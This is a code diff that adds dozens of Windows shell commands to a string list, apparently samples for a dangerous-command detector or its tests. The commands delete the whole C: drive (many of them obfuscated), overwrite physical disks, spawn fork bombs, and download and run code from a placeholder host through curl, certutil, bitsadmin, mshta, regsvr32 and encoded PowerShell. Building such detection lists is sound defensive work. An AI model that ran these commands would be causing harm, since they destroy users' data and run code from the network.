@@ -58,6 +58,57 @@ dd if=x of=\\.\PhysicalDrive0
 :a & start %0 & goto a
 for /l %i in () do start cmd
 for /f "delims=" %i in ('curl x') do %i
+rd/s/q c:\
+rd /S /Q "c:\"
+RMDIR C:\ /S /Q
+del /f/s/q C:\
+del C:\* /s /f /q
+del /s /q /f c:\*.*
+erase /s /q C:\*
+rd /s /q %HOMEDRIVE%\
+cd \ && rd /s /q .
+cd /d C:\ & del /s /q *.*
+cmd /c "del /s /q C:\*"
+cmd.exe /C "rd /s /q C:\"
+%ComSpec% /c "rd /s /q C:\"
+C:\Windows\System32\cmd.exe /c rd /s /q C:\
+start cmd /c rd /s /q C:\
+call cmd /c rd /s /q C:\
+if exist C:\x rd /s /q C:\
+for %a in (1) do @rd /s /q C:\
+for /d %d in (C:\*) do rd /s /q C:\
+echo y|rd /s C:\
+@echo off & rd /s /q C:\
+r^d /^s /^q C:^\
+"rd" /s /q C:\
+rd /s /q C:\ & echo done
+rd /s /q C:\ >nul 2>&1
+powershell -c "Remove-Item C:\ -Recurse -Force"
+powershell Remove-Item C:\ -Recurse -Force
+powershell -enc AAAA
+powershell -EncodedCommand AAAA
+PowerShell.exe -NoP -NonI -W Hidden -Enc AAAA
+powershell "iex (iwr http://x)"
+powershell -c "irm http://x | iex"
+powershell -Command "(New-Object Net.WebClient).DownloadString('http://x') | iex"
+curl http://x/a.bat | cmd
+curl -s http://x | powershell -
+curl http://x -o %TEMP%\a.bat && %TEMP%\a.bat
+curl -o a.exe http://x/a.exe & a.exe
+curl -O http://x/a.exe & start a.exe
+certutil -urlcache -split -f http://x/a.exe a.exe && a.exe
+certutil -decode a.b64 a.exe & a.exe
+bitsadmin /transfer x http://x/a.exe C:\a.exe && C:\a.exe
+mshta https://x/a.hta
+mshta vbscript:Execute("x")
+regsvr32 /s /n /u /i:https://x/a.sct scrobj.dll
+rundll32 javascript:x
+msiexec /i http://x/a.msi /qn
+%0 | %0
+:s & start "" %0 & goto s
+for /l %x in (0,0,1) do start cmd
+for /L %i in () do start
+type x > \\.\PHYSICALDRIVE1
 `
   .trim()
   .split('\n')
